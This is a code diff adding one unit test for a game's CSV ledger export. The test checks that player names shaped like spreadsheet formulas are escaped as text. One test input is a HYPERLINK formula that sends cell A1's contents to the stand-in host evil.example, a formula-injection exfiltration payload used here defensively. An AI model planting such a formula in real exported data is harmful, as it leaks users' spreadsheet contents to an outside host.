@@ -156,6 +156,21 @@ describe('UTD1.12 the campaign ledger', () => {
       for (const c of LEDGER_COLUMNS) expect(parsed[i]![c], c).toBe(String(r[c] ?? ''));
   });
 
+  it('UTD1.12 the CSV ledger writes a player named like a formula (=, +, -, @) as text, and keeps numbers numbers', () => {
+    const g = startedGame();
+    const names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '@SUM(A1:A9)'];
+    g.patch((s) => s.players.forEach((p, i) => (p.name = names[i]!)));
+    const csv = ledgerCsv(ledgerRows(g.state, g.catalog));
+    const parsed = parse(csv, { columns: true }) as Record<string, string>[];
+    expect(parsed.map((r) => r['player'])).toEqual(names.map((n) => `'${n}`));
+    expect(csv.split('\n')[1]).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
+    // A cell that is a plain number stays a number; '-2' in a name is text and is escaped.
+    expect(parsed[0]!['bank']).toBe('854');
+    g.patch((s) => (s.players[0]!.name = '-2+3'));
+    const again = parse(ledgerCsv(ledgerRows(g.state, g.catalog)), { columns: true }) as Record<string, string>[];
+    expect(again[0]!['player']).toBe("'-2+3");
+  });
+
   it('before the map and the seats: players in joining order, nothing owned', () => {
     const g = startedGame();
     g.patch((s) => {
